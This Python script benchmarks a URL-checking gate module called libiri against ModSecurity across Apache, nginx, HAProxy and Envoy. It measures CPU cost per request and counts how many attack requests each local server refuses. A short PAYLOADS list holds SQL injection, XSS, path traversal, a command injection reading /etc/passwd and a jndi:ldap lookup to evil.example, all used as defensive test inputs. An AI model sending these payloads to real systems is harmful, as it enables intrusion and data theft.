"""What a gate in a server costs, and what it stops: libiri beside ModSecurity with the core rule set.

usage: modules.py WORK MODULES [ROUNDS] [--only SERVER,SERVER] [--data FOLDER] [--keep]    (modules.sh builds what it needs, and calls it)

Apache and nginx each as they are, as they are once more (the noise), with libiri, and with ModSecurity; HAProxy and Envoy without
ModSecurity, which they do not have. HAProxy with the rules of modules/haproxy/example.cfg, with the action for each request, and with an action of Lua
that does nothing; Envoy also with its own normalize_path and merge_slashes. Each has an answer of 200 bytes of its own, and forwards to an upstream. wrk loads them in
turns, in an order by chance; a ratio is that of two loads of the same round. CPU time is that of all threads of the server. Then load.cc
sends the same number of requests to each, in turns of a tenth of a second: what else the machine does tells less in the CPU time of those.
The instructions of nginx and of HAProxy for a request, without the kernel's, are counted by valgrind: they are nearly the same on a loaded machine,
and so is what the module adds to them. usage: modules.py --instructions WORK MODULES does that alone.

Then each gets the attacks of test/data/attacks.txt, their harmless neighbours, and with --data the targets of a real log,
FOLDER/targets_log.txt.
"""
import contextlib
import datetime
import json
import os
import pathlib
import random
import re
import statistics
import subprocess
import sys
import time

import report
from servers import cpu, interval

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
sys.path.insert(0, str(ROOT / "lab/servers/gates"))
from envoy import early, fixed, gate_filter, to_upstream, typed  # noqa: E402
from suite import attack_lines, host_of  # noqa: E402
from wire import exchange, free_ports, request_of, split  # noqa: E402

SECONDS = 1
REQUESTS, FEW = 1600, 160
COUNTED = (320, 1920)  # requests under valgrind: the difference is counted
STATIC, PROXIED = "/hello.txt?name=ferret&color=purple&page=12", "/p/hello?name=ferret&color=purple&page=12"
BODY = "0123456789" * 20
BAR = 0.99  # of the requests a second
# What is not about targets, and what libiri lets pass.
PAYLOADS = [b"/?id=1%27%20or%20%271%27=%271", b"/?id=1%20union%20select%20password%20from%20users", b"/?q=%3Cscript%3Ealert(1)%3C/script%3E",
            b"/?f=../../../etc/passwd", b"/?cmd=;cat%20/etc/passwd", b"/?x=$%7Bjndi:ldap://evil.example/a%7D"]
CRS = """SecUnicodeMapFile /etc/modsecurity/unicode.mapping 20127
Include {work}/engine.conf
Include /etc/modsecurity/crs/crs-setup.conf
Include /usr/share/modsecurity-crs/rules/*.conf
"""
APACHE = """ServerRoot "{work}"
ServerName www.example.org
PidFile "{work}/apache-{port}.pid"
ErrorLog /dev/null
Mutex posixsem
{loads}
<IfModule unixd_module>
  User nobody
  Group nogroup
</IfModule>
Listen 127.0.0.1:{port}
StartServers 1
ServerLimit 1
ThreadsPerChild 20
MaxRequestWorkers 20
MinSpareThreads 1
MaxSpareThreads 20
MaxKeepAliveRequests 0
KeepAliveTimeout 60
LimitRequestLine 32000
TypesConfig /dev/null
DocumentRoot "{work}/pages"
{gate}
ProxyPass "/p/" "http://127.0.0.1:{upstream}/"
"""
APACHE_MODULES = ["mpm_event", "authz_core", "mime", "proxy", "proxy_http"]
SECURITY2 = """LoadModule unique_id_module /usr/lib/apache2/modules/mod_unique_id.so
LoadModule security2_module /usr/lib/apache2/modules/mod_security2.so
SecDataDir {work}
Include {work}/crs.conf
"""
NGINX = """{load}
daemon off; master_process off; pid "{work}/nginx-{port}.pid"; error_log /dev/null;
events {{}}
http {{ access_log off; keepalive_requests 100000000; large_client_header_buffers 4 32k; client_body_temp_path "{work}/t1"; proxy_temp_path "{work}/t2";
  fastcgi_temp_path "{work}/t3"; uwsgi_temp_path "{work}/t4"; scgi_temp_path "{work}/t5";
  upstream up {{ server 127.0.0.1:{upstream}; keepalive 20; }}
  server {{ listen 127.0.0.1:{port}; {gate}
    location / {{ root "{work}/pages"; }}
    location /p/ {{ proxy_pass http://up; proxy_http_version 1.1; proxy_set_header Connection ""; }} }} }}
"""
UPSTREAM = """daemon off; master_process off; pid "{work}/up.pid"; error_log /dev/null;
events {{}}
http {{ access_log off; keepalive_requests 100000000; client_body_temp_path "{work}/u1"; proxy_temp_path "{work}/u2";
  fastcgi_temp_path "{work}/u3"; uwsgi_temp_path "{work}/u4"; scgi_temp_path "{work}/u5";
  server {{ listen 127.0.0.1:{port}; location / {{ return 200 "{body}"; }} }} }}
"""
HAPROXY = """global
  maxconn 200
  nbthread 1
{load}
defaults
  mode http
  timeout connect 5s
  timeout client 60s
  timeout server 60s
frontend web
  bind 127.0.0.1:{port}
{gate}
  http-request return status 200 content-type text/plain string "{body}" unless {{ path_beg /p/ }}
  default_backend up
backend up
  http-reuse always
  server up 127.0.0.1:{upstream}
"""
EMPTY = 'core.register_action("iri_gate", {"http-req"}, function(txn) txn:set_var("txn.iri_passes", true) end, 0)\n'  # what no gate in Lua is cheaper than
ACTION = """  http-request lua.iri_gate
  http-request deny deny_status 400 unless { var(txn.iri_passes) -m bool }
"""
RULES = "\n".join(re.findall(r"(?m)^  http-request .*", (ROOT / "modules/haproxy/example.cfg").read_text(encoding="ascii"))) + "\n"
HAPROXY_KINDS = {  # the script, and the rules
    "without": ("", ""), "again": ("", ""), "iri": ('require("iri_gate").register { policy = "proxy" }\n', RULES),
    "iri, the action alone": ('require("iri_gate").register { policy = "proxy" }\n', ACTION), "Lua alone": (EMPTY, ACTION)}
ENVOY_KINDS = {  # filters, and options of the connection manager
    "without": ([], {}), "again": ([], {}), "iri": ([gate_filter(policy="proxy")], early(policy="proxy")),
    "its own options": ([], {"normalize_path": True, "merge_slashes": True})}


def family(pid):
    """The process and all below it."""
    out = [pid]
    for children in pathlib.Path(f"/proc/{pid}/task").glob("*/children"):
        for child in children.read_text(encoding="ascii").split():
            out += family(int(child))
    return out


class Machines:
    """All servers, as long as the `with` lasts; `of` has them by server and kind: (process, port)."""

    def __init__(self, work, modules, only=()):
        self.work, self.modules, self.only, self.of, self.processes = work, modules, only, {}, []

    def __enter__(self):
        (self.work / "pages").mkdir(parents=True, exist_ok=True)
        for name in ("hello.txt", "index.html"):
            (self.work / "pages" / name).write_text(BODY, encoding="ascii")
        self.write_rules()
        (self.upstream,) = free_ports(1)
        self.start(["/usr/sbin/nginx", "-p", self.work, "-e", "/dev/null", "-c", self.write("up.conf", UPSTREAM.format(
            work=self.work, port=self.upstream, body=BODY))], self.upstream)
        try:
            self.start_all()
        except BaseException:
            self.__exit__()
            raise
        return self

    def write_rules(self):
        """ModSecurity's."""
        (self.work / "crs.conf").write_text(CRS.format(work=self.work), encoding="ascii")
        if self.only and not {"Apache", "nginx"} & set(self.only):
            return
        engine = pathlib.Path("/etc/modsecurity/modsecurity.conf-recommended").read_text(encoding="utf-8")
        engine = re.sub(r"(?m)^SecRuleEngine .*$", "SecRuleEngine On", engine).replace("/var/log/apache2", str(self.work))
        engine = re.sub(r"(?m)^SecAuditEngine .*$", "SecAuditEngine Off", engine)
        (self.work / "engine.conf").write_text(re.sub(r"(?m)^(SecUnicodeMapFile|SecRequestBodyInMemoryLimit).*$", "", engine), encoding="utf-8")

    def __exit__(self, *_):
        for process in self.processes:
            process.terminate()
        for process in self.processes:
            process.wait(timeout=20)

    def write(self, name, text):
        (self.work / name).write_text(text, encoding="utf-8")
        return self.work / name

    def start(self, command, port):
        process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        self.processes.append(process)
        for _ in range(400):
            with contextlib.suppress(OSError):
                exchange(port, request_of(b"GET /hello.txt HTTP/1.1"))
                return process.pid
            if process.poll() is not None:
                break
            time.sleep(0.05)
        raise RuntimeError(f"{command}: {process.stderr.read1(2000)!r}")

    def start_all(self):
        kinds = ["without", "again", "iri", "ModSecurity"]
        for name, start, kinds in (("Apache", self.apache, kinds), ("nginx", self.nginx, kinds), ("HAProxy", self.haproxy, HAPROXY_KINDS),
                                   ("Envoy", self.envoy, ENVOY_KINDS)):
            for kind in kinds if not self.only or name in self.only else []:
                start(kind)

    def add(self, server, kind, port, command):
        self.of.setdefault(server, {})[kind] = (self.start(command, port), port)

    def apache(self, kind):
        (port,) = free_ports(1)
        names = [f"LoadModule {n}_module /usr/lib/apache2/modules/mod_{n}.so" for n in APACHE_MODULES]
        gate = ""
        if kind == "iri":
            names.append(f"LoadModule iri_module {self.modules}/modules/apache/mod_iri.so")
            gate = "IriGate proxy"
        if kind == "ModSecurity":
            gate = SECURITY2.format(work=self.work)
        text = APACHE.format(work=self.work, port=port, loads="\n".join(names), gate=gate, upstream=self.upstream)
        self.add("Apache", kind, port, ["/usr/sbin/apache2", "-DFOREGROUND", "-f", self.write(f"apache-{kind}.conf", text)])

    def nginx(self, kind):
        (port,) = free_ports(1)
        load = {"iri": f'load_module "{self.work}/nginx_module/ngx_http_iri_module.so";',
                "ModSecurity": "load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so;"}.get(kind, "")
        gate = {"iri": "iri_gate proxy;",
                "ModSecurity": f'modsecurity on; modsecurity_rules_file "{self.work}/crs.conf";'}.get(kind, "")
        text = NGINX.format(work=self.work, port=port, load=load, gate=gate, upstream=self.upstream)
        self.add("nginx", kind, port, ["/usr/sbin/nginx", "-p", self.work, "-e", "/dev/null", "-c", self.write(f"nginx-{kind}.conf", text)])

    def haproxy(self, kind):
        (port,) = free_ports(1)
        script, gate = HAPROXY_KINDS[kind]
        load, name = "", re.sub(r"\W+", "-", kind)
        if script:
            script = self.write(f"gates-{name}.lua", script)
            load = (f"  lua-prepend-path {self.modules}/modules/haproxy/?.so cpath\n  lua-prepend-path {ROOT}/modules/haproxy/?.lua\n"
                    f"  lua-load-per-thread {script}\n")
        text = HAPROXY.format(port=port, load=load, gate=gate, body=BODY, upstream=self.upstream)
        self.add("HAProxy", kind, port, ["/usr/sbin/haproxy", "-db", "-q", "-f", self.write(f"haproxy-{name}.cfg", text)])

    def envoy(self, kind):
        (port,) = free_ports(1)
        filters, options = ENVOY_KINDS[kind]
        manager = typed("envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager", stat_prefix="in", http_filters=[
            *filters, {"name": "router", "typed_config": typed("envoy.extensions.filters.http.router.v3.Router")}], route_config={"virtual_hosts": [
                {"name": "all", "domains": ["*"], "routes": [to_upstream("/p/"), fixed("/", BODY)]}]}, **options)

        def at(number):
            return {"socket_address": {"address": "127.0.0.1", "port_value": number}}
        text = json.dumps({"static_resources": {
            "listeners": [{"name": "in", "address": at(port), "filter_chains": [{"filters": [{"name": "http", "typed_config": manager}]}]}],
            "clusters": [{"name": "application", "load_assignment": {"cluster_name": "application", "endpoints": [
                {"lb_endpoints": [{"endpoint": {"address": at(self.upstream)}}]}]}}]}})
        self.add("Envoy", kind, port, [os.environ["ENVOY"], "-c", self.write(f"envoy-{re.sub(' ', '-', kind)}.json", text), "--concurrency", "1",
                                       "--disable-hot-restart", "-l", "error"])


def load(machine, target):
    """Requests a second, and CPU ns of the server for each."""
    pid, port = machine
    before = sum(map(cpu, family(pid)))
    output = subprocess.run(["wrk", "-t1", "-c16", f"-d{SECONDS}s", f"http://127.0.0.1:{port}{target}"], capture_output=True,
                            text=True, check=True).stdout
    spent = sum(map(cpu, family(pid))) - before
    requests = int(re.search(r"(\d+) requests in", output)[1])
    errors = sum(map(int, re.findall(r"(?:connect|read|write|timeout) (\d+)", output)))
    if "Non-2xx" in output or errors * 50 > requests:  # Apache may close a connection that it has kept
        raise RuntimeError(f"not all answers were 200: {output}")
    return float(re.search(r"Requests/sec:\s+([\d.]+)", output)[1]), spent / requests


def measure(machines, rounds, target):
    """[{(server, kind): (rate, ns)}], a turn each."""
    chance, order = random.Random(1), [(s, k) for s, kinds in machines.of.items() for k in kinds]
    for server, kind in order:
        load(machines.of[server][kind], target)
    turns = []
    for _ in range(rounds):
        chance.shuffle(order)
        turns.append({one: load(machines.of[one[0]][one[1]], target) for one in order})
    return turns


def word(ratio, noise):
    """Of the bar: at most 1 % of the requests. Where two that are equal differ by more, nothing can be said."""
    if ratio[2] < BAR * min(1, noise[1]):
        return "NOT HELD"
    return "held" if ratio[1] >= BAR else "cannot be told from noise"


class Counted(Machines):
    """A server of one kind, with its upstream, under valgrind."""

    def __init__(self, work, modules, server, kind):
        super().__init__(work, modules, ("nginx",))
        self.server, self.kind, self.valgrind, self.log = server, kind, [], work / "callgrind.log"

    def start_all(self):
        self.valgrind = ["valgrind", "--tool=callgrind", "--callgrind-out-file=/dev/null", f"--log-file={self.log}"]
        getattr(self, self.server.lower())(self.kind)

    def start(self, command, port):
        return super().start([*self.valgrind, *command], port)


def instructions_of(work, modules, one, target, requests):
    """All instructions of a server, from its start to its end, with so many requests."""
    with Counted(work, modules, *one) as machines:
        targets = machines.write("targets", target + "\n")
        _, port = machines.of[one[0]][one[1]]
        subprocess.run([work / "load", str(port), str(requests), targets], check=True, capture_output=True)
    return int(re.search(r"Collected : (\d+)", machines.log.read_text(encoding="ascii"))[1])


def count_instructions(work, modules):
    """The lines: what the module adds to the instructions of a request."""
    lines = []
    for server, title, target in (("nginx", "a file of 200 bytes", STATIC), ("nginx", "forwarded", PROXIED), ("HAProxy", "an answer of its own", STATIC)):
        few, many = COUNTED
        kinds = [kind for kind in HAPROXY_KINDS if kind != "again"] if server == "HAProxy" else ["without", "iri"]
        one = {kind: (instructions_of(work, modules, (server, kind), target, many) - instructions_of(work, modules, (server, kind), target, few)) / (many - few)
               for kind in kinds}
        for kind in kinds[1:]:
            more = one[kind] - one["without"]
            lines.append(f"{server}, {title}: {one['without']:.0f} instructions a request without the kernel's, {one[kind]:.0f} with {kind}: "
                         f"{more:+.0f}, {100 * more / one['without']:+.1f} %")
    return lines


def load_by_count(work, machine, kind, targets):
    """CPU ns of the server for each of some requests."""
    pid, port = machine
    requests = FEW if kind == "ModSecurity" else REQUESTS
    before = sum(map(cpu, family(pid)))
    subprocess.run([work / "load", str(port), str(requests), targets], check=True, capture_output=True)
    return (sum(map(cpu, family(pid))) - before) / requests


def measure_by_count(machines, rounds, target):
    """[{(server, kind): ns}], a turn each."""
    chance, order = random.Random(2), [(s, k) for s, kinds in machines.of.items() for k in kinds]
    targets = machines.write("targets", target + "\n")
    turns = []
    for _ in range(rounds + 1):  # the first is until they are as they will be
        chance.shuffle(order)
        turns.append({(s, k): load_by_count(machines.work, machines.of[s][k], k, targets) for s, k in order})
    return turns[1:]


def show_by_count(turns, server, kind):
    """The line of a kind beside `without`."""
    more = interval([(t[server, kind] - t[server, "without"]) / 1000 for t in turns])
    ratio = interval([t[server, kind] / t[server, "without"] for t in turns])
    least = {k: min(t[server, k] for t in turns) / 1000 for k in (kind, "without")}
    return (f"  {server}, {kind}: {more[0]:+.2f} us of CPU time a request ({more[1]:+.2f} to {more[2]:+.2f}), ratio {ratio[0]:.3f} "
            f"({ratio[1]:.3f} to {ratio[2]:.3f}); least of the rounds {least['without']:.2f} us without, {least[kind]:.2f} with")


def show(turns, server, kind):
    """The line of a kind beside `without`."""
    rates = interval([t[server, kind][0] / t[server, "without"][0] for t in turns])
    noise = interval([t[server, "again"][0] / t[server, "without"][0] for t in turns])
    more = interval([(t[server, kind][1] - t[server, "without"][1]) / 1000 for t in turns])
    median = {k: statistics.median(t[server, k][1] for t in turns) / 1000 for k in (kind, "without")}
    least = {k: min(t[server, k][1] for t in turns) / 1000 for k in (kind, "without")}
    said = f"; at least {BAR} of the requests: {word(rates, noise)}" if kind == "iri" else ""
    return (f"  {server}, {kind}: {rates[0]:.3f} ({rates[1]:.3f} to {rates[2]:.3f}) times the requests a second; CPU time a request "
            f"{median['without']:.1f} us without, {median[kind]:.1f} with: {more[0]:+.2f} us ({more[1]:+.2f} to {more[2]:+.2f}), "
            f"least of the rounds {least['without']:.1f} and {least[kind]:.1f}{said}")


def refused(port, targets):
    """How many of them are refused: 400 to 499 but for 404 and 405, which say that there is no such page, or closed."""
    def one(method, target):
        answer = split(exchange(port, request_of(method + b" " + target + b" HTTP/1.1", host_of(target))))
        return answer.status == 0 or (400 <= answer.status < 500 and answer.status not in (404, 405))
    return sum(one(method, target) for method, target in targets)


def lists(data):
    """Name and (method, target) of each list."""
    attacks = [a for a in attack_lines() if a.preset == "proxy"]
    out = {"attacks of attacks.txt": [(a.method, a.target) for a in attacks if not a.passes],
           "their harmless neighbours": [(a.method, a.target) for a in attacks if a.passes and a.method == b"GET"],
           "injections in a query, which are no matter of libiri": [(b"GET", target) for target in PAYLOADS]}
    if data:
        log = (data / "targets_log.txt").read_bytes().split(b"\n")
        out["targets of a real log"] = [(b"GET", t) for t in dict.fromkeys(log) if t.startswith(b"/") and not re.search(rb"[\x00-\x20\x7f-\xff]", t)]
    return out


def main():
    if sys.argv[1] == "--instructions":
        print("\n".join(count_instructions(*(pathlib.Path(p).resolve() for p in sys.argv[2:4]))))
        return
    work, modules = (pathlib.Path(p).resolve() for p in sys.argv[1:3])
    data = pathlib.Path(sys.argv[sys.argv.index("--data") + 1]) if "--data" in sys.argv else None
    numbers = [int(a) for a in sys.argv[3:] if a.isdigit()]
    rounds = numbers[0] if numbers else 15
    lines = []
    only = sys.argv[sys.argv.index("--only") + 1].split(",") if "--only" in sys.argv else ()
    with Machines(work, modules, only) as machines:
        for title, target in (("a file of 200 bytes (HAProxy: an answer of its own)", STATIC), ("forwarded to nginx", PROXIED)):
            turns = measure(machines, rounds, target)
            lines.append(f"{title}: medians of {rounds} rounds of {SECONDS} s, 16 connections; in brackets 95 %")
            pairs = [(server, kind) for server, kinds in machines.of.items() for kind in kinds if kind != "without"]
            lines += [show(turns, *pair) for pair in pairs]
            turns = measure_by_count(machines, 4 * rounds, target)
            lines.append(f"{title}: {4 * rounds} rounds of {REQUESTS} requests, {FEW} with ModSecurity")
            lines += [show_by_count(turns, *pair) for pair in pairs]
        for name, targets in lists(data).items():
            counts = {(s, k): refused(port, targets) for s, kinds in machines.of.items() for k, (_, port) in kinds.items() if k not in ("again", "Lua alone", "iri, the action alone")}
            lines.append(f"{name} ({len(targets)}), refused by: " + ", ".join(
                f"{s} {'itself' if k == 'without' else 'with ' + k} {n}" for (s, k), n in counts.items()))
    lines += [] if only else count_instructions(work, modules)
    print("\n".join(lines))
    if "--keep" in sys.argv:
        about = report.environment({"kernel": "", "cores": 0}, "./dev bench --modules" + (" --data FOLDER" if data else ""))
        date = datetime.datetime.now(datetime.timezone.utc).date()
        versions = subprocess.run(["dpkg-query", "-W", "-f", "${Package} ${Version}; ", "nginx", "apache2-bin", "haproxy", "modsecurity-crs",
                                   "libapache2-mod-security2", "libmodsecurity3"], capture_output=True, text=True, check=False).stdout
        head = [f"# {key}: {about[key]}" for key in ("date", "processor", "compiler", "system", "commit", "command")]
        path = pathlib.Path(__file__).with_name("results") / f"MODULES-{date}.txt"
        path.write_text("\n".join([*head, f"# packages: {versions}", *lines]) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
